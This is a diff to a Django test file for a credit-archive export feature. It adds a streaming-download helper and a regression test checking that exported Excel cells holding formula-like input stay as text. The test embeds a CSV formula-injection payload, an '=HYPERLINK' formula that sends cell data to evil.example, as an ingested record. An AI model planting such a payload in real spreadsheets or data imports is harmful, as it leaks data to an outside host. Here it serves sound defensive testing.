@@ -9,6 +9,10 @@ from xinrong.credit.models import Authorisation, QueryLog
 pytestmark = pytest.mark.django_db
 
 
+def _download(response) -> bytes:
+    return b"".join(response.streaming_content) if response.streaming else response.content
+
+
 def test_enterprise_grants_then_bank_reads_and_the_read_is_in_the_log(
     client, facts, entity, enterprise_user, bank_officer
 ):
@@ -114,7 +118,7 @@ def test_export_follows_the_authorisation_and_is_logged_as_export(
 
     client.force_login(bank_officer)
     url = reverse("credit:archive_export", args=[entity.uscc])
-    sheets = load_workbook(io.BytesIO(client.get(url).content)).sheetnames
+    sheets = load_workbook(io.BytesIO(_download(client.get(url)))).sheetnames
     assert "纳税" not in sheets and "行政处罚" in sheets
     assert not QueryLog.objects.exists()
     authorisation_grant(
@@ -125,7 +129,7 @@ def test_export_follows_the_authorisation_and_is_logged_as_export(
         purpose="post_loan",
         expires_on=timezone.localdate() + dt.timedelta(days=3),
     )
-    wb = load_workbook(io.BytesIO(client.get(url).content))
+    wb = load_workbook(io.BytesIO(_download(client.get(url))))
     rows = list(wb["纳税"].iter_rows(values_only=True))
     assert rows[0][1] == "所属期" and rows[1][1] == "2024-06"
     assert QueryLog.objects.get().channel == "export"
@@ -165,3 +169,36 @@ def test_enterprise_sees_its_portrait_page_and_operator_the_model_pages(
     detail = client.get("/credit/models/1/").content.decode()
     assert 'data-feature="tax_grade"' in detail and "activated" in detail
     assert client.get("/credit/models/9/").status_code == 404
+
+
+def test_archive_export_writes_formula_like_values_as_text(client, entity, bank_officer, make_user):
+    """A department's "=HYPERLINK(…)" in a fact comes back as text, never a live formula."""
+    import io
+
+    from openpyxl import load_workbook
+
+    from xinrong.datahub.services import batch_ingest, source_create
+
+    dept = make_user("government", ["data_provider"])
+    src = source_create(
+        code="court", name="法院", organisation=dept.organisation, categories=["penalty"]
+    )
+    payload = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
+    quoted = payload.replace('"', '""')
+    pen = (
+        "统一社会信用代码,决定书文号,严重程度,处罚日期\n"
+        f'{entity.uscc},"{quoted}",minor,2024-05-01\n'
+    )
+    batch_ingest(
+        source=src,
+        category="penalty",
+        fileobj=io.BytesIO(pen.encode()),
+        filename="p.csv",
+        channel="cli",
+    )
+    client.force_login(bank_officer)
+    response = client.get(reverse("credit:archive_export", args=[entity.uscc]))
+    ws = load_workbook(io.BytesIO(_download(response)))["行政处罚"]
+    cells = [c for row in ws.iter_rows(min_row=2) for c in row if c.value == "'" + payload]
+    assert cells, [[c.value for c in row] for row in ws.iter_rows()]
+    assert all(c.data_type == "s" for c in cells)
